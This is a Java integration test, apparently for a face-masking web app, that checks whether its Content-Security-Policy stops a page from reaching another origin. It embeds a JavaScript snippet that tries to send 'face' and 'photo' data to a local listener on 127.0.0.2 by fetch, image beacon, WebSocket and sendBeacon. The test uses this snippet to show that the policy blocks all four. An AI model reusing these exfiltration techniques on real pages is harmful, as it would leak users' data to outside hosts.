package app.maskai.it;

import app.maskai.serve.StaticServer;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The Content-Security-Policy allows the page nothing but its own origin (issue 5 §1). A page
 * tries four ways out to a real listener on another origin (127.0.0.2): a cross-origin fetch,
 * an image beacon, a WebSocket and navigator.sendBeacon. Under the app's policy — the running
 * app with the server's header and the page's meta, and the page's meta alone — all are blocked
 * with a violation and the listener hears nothing; from a page without a policy, the same script
 * reaches the listener, so the check can fail.
 */
class ContentSecurityPolicyIT {

    /** Every source a directive of the app's policy may name; anything else would let more in. */
    private static final Set<String> ALLOWED_SOURCES = Set.of("'self'", "'none'", "'wasm-unsafe-eval'", "blob:", "data:");
    private static final Pattern META = Pattern.compile(
            "<meta http-equiv=\"Content-Security-Policy\" content=\"([^\"]+)\">");

    /** Tries the four ways out; returns {outcome: {fetch, image, socket, beacon}, violations: [...]}. */
    private static final String ESCAPE = """
            const other = args[0];
            const violations = [];
            document.addEventListener('securitypolicyviolation', e => violations.push(
                {directive: e.effectiveDirective, blocked: e.blockedURI}));
            const outcome = {};
            try {
              await fetch(other + '/fetch?photo=1', {mode: 'no-cors', method: 'POST', body: 'face'});
              outcome.fetch = 'sent';
            } catch (e) {
              outcome.fetch = 'blocked';
            }
            outcome.image = await new Promise(resolve => {
              const image = new Image();
              image.onload = () => resolve('loaded');
              image.onerror = () => resolve('blocked');
              image.src = other + '/beacon?photo=1';
            });
            outcome.socket = await new Promise(resolve => {
              try {
                const socket = new WebSocket(other.replace(/^http/, 'ws') + '/socket');
                socket.onopen = () => resolve('open');
                socket.onerror = () => resolve('failed');
              } catch (e) {
                resolve('threw ' + e.name);
              }
            });
            outcome.beacon = String(navigator.sendBeacon(other + '/send-beacon', 'face'));
            await new Promise(resolve => setTimeout(resolve, 1000));
            return {outcome, violations};
            """;

    private static HttpServer elsewhere;
    private static HttpServer plain;
    private static final List<String> heardElsewhere = Collections.synchronizedList(new ArrayList<>());

    @BeforeAll
    static void listen() throws IOException, InterruptedException {
        // The other origin: a real listener that answers anything and remembers it.
        elsewhere = HttpServer.create(new InetSocketAddress("127.0.0.2", 0), 16);
        elsewhere.createContext("/", exchange -> {
            heardElsewhere.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
            exchange.getRequestBody().readAllBytes();
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        elsewhere.start();
        // A host that sends no policy header: the app's page (meta only) and a page with no policy.
        byte[] index = Files.readAllBytes(LiveSite.siteDir().resolve("index.html"));
        plain = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 16);
        plain.createContext("/", exchange -> {
            String path = exchange.getRequestURI().getPath();
            if (path.equals("/")) {
                send(exchange, index);
            } else if (path.equals("/control.html")) {
                send(exchange, "<!doctype html><html lang=\"en\"><title>No policy</title><p>control</p>"
                        .getBytes(StandardCharsets.UTF_8));
            } else {
                exchange.sendResponseHeaders(404, -1);
                exchange.close();
            }
        });
        plain.start();

        HttpResponse<Void> probe = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create(elsewhereUrl() + "/probe")).build(), HttpResponse.BodyHandlers.discarding());
        assertEquals(204, probe.statusCode(), "the other origin's listener answers");
        assertEquals(List.of("GET /probe"), List.copyOf(heardElsewhere), "the listener records what reaches it");
    }

    @AfterAll
    static void stop() {
        if (elsewhere != null) {
            elsewhere.stop(0);
        }
        if (plain != null) {
            plain.stop(0);
        }
    }

    private static String elsewhereUrl() {
        return "http://127.0.0.2:" + elsewhere.getAddress().getPort();
    }

    private static void send(HttpExchange exchange, byte[] html) throws IOException {
        exchange.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
        exchange.sendResponseHeaders(200, html.length);
        try (OutputStream out = exchange.getResponseBody()) {
            out.write(html);
        }
    }

    @Test
    void thePolicyNamesNothingButTheAppsOwnOriginInTheHeaderAndThePage() throws IOException {
        Matcher meta = META.matcher(Files.readString(LiveSite.siteDir().resolve("index.html")));
        assertTrue(meta.find(), "index.html has a Content-Security-Policy meta element");
        Map<String, Set<String>> page = directives(meta.group(1));
        Map<String, Set<String>> header = directives(StaticServer.CONTENT_SECURITY_POLICY);
        Map<String, Set<String>> headerWithoutFrames = new TreeMap<>(header);
        // frame-ancestors cannot be set by a meta element; only the header carries it.
        Set<String> frames = headerWithoutFrames.remove("frame-ancestors");
        List<String> extra = new ArrayList<>();
        header.forEach((directive, sources) -> sources.stream().filter(s -> !ALLOWED_SOURCES.contains(s))
                .forEach(s -> extra.add(directive + " " + s)));
        assertAll(
                () -> assertEquals(headerWithoutFrames, page, "the page's policy and the server's differ"),
                () -> assertEquals(Set.of("'none'"), frames, "frame-ancestors"),
                () -> assertEquals(Set.of("'self'"), page.get("default-src"), "default-src"),
                () -> assertEquals(Set.of("'self'"), page.get("connect-src"), "connect-src"),
                () -> assertEquals(Set.of("'none'"), page.get("form-action"), "form-action"),
                () -> assertEquals(List.of(), extra, "sources beyond the app's own"));
    }

    @Test
    void theRunningAppCannotReachAnotherOrigin() throws IOException {
        try (StaticServer server = StaticServer.start(LiveSite.siteDir(), 0);
             Browser browser = Browser.launch(LiveSite.buildDir())) {
            browser.open(server.baseUrl());
            browser.waitReady();
            assertBlocked(browser, "the app (header and meta)");
        }
    }

    @Test
    void thePagesOwnPolicyBlocksWithoutTheServersHeader() throws IOException {
        try (Browser browser = Browser.launch(LiveSite.buildDir())) {
            browser.open("http://127.0.0.1:" + plain.getAddress().getPort() + "/");
            assertBlocked(browser, "index.html's meta alone");
        }
    }

    @Test
    void withoutAPolicyTheSameScriptReachesTheOtherOrigin() throws IOException {
        try (Browser browser = Browser.launch(LiveSite.buildDir())) {
            browser.open("http://127.0.0.1:" + plain.getAddress().getPort() + "/control.html");
            heardElsewhere.clear();
            Map<String, Object> tried = Browser.asMap(browser.call(ESCAPE, elsewhereUrl()));
            List<String> heard = List.copyOf(heardElsewhere);
            System.out.println("no policy: " + tried + "; the other origin heard " + heard);
            Set<String> paths = new TreeSet<>();
            heard.forEach(h -> paths.add(h.replaceAll("^\\S+ (/[^?]*).*$", "$1")));
            assertEquals(Set.of("/fetch", "/beacon", "/socket", "/send-beacon"), paths,
                    "what reached the other origin from a page with no policy");
        }
    }

    private static void assertBlocked(Browser browser, String what) {
        heardElsewhere.clear();
        Map<String, Object> tried = Browser.asMap(browser.call(ESCAPE, elsewhereUrl()));
        Map<String, Object> outcome = Browser.asMap(tried.get("outcome"));
        List<?> violations = (List<?>) tried.get("violations");
        Set<String> directives = new TreeSet<>();
        List<String> blockedUris = new ArrayList<>();
        for (Object v : violations) {
            directives.add(String.valueOf(Browser.asMap(v).get("directive")));
            blockedUris.add(String.valueOf(Browser.asMap(v).get("blocked")));
        }
        List<String> heard = List.copyOf(heardElsewhere);
        System.out.println(what + ": " + outcome + "; violations " + violations + "; the other origin heard " + heard);
        String other = elsewhereUrl().replaceFirst("^http://", "");
        assertAll(what,
                () -> assertEquals("blocked", outcome.get("fetch"), "fetch"),
                () -> assertEquals("blocked", outcome.get("image"), "image beacon"),
                () -> assertTrue(String.valueOf(outcome.get("socket")).matches("failed|threw SecurityError"),
                        "WebSocket: " + outcome.get("socket")),
                () -> assertEquals(Set.of("connect-src", "img-src"), directives, "violated directives"),
                () -> assertTrue(violations.size() >= 4, "a violation per attempt: " + violations),
                () -> assertTrue(blockedUris.stream().allMatch(u -> u.contains(other)), "blocked URIs " + blockedUris),
                () -> assertEquals(List.of(), heard, "requests that reached the other origin"));
    }

    /** "name source source; ..." as directive → its sources. */
    private static Map<String, Set<String>> directives(String policy) {
        Map<String, Set<String>> map = new TreeMap<>();
        for (String part : policy.split(";")) {
            String[] words = part.trim().split("\\s+");
            if (words.length > 0 && !words[0].isEmpty()) {
                map.put(words[0], new TreeSet<>(Arrays.asList(words).subList(1, words.length)));
            }
        }
        return map;
    }
}
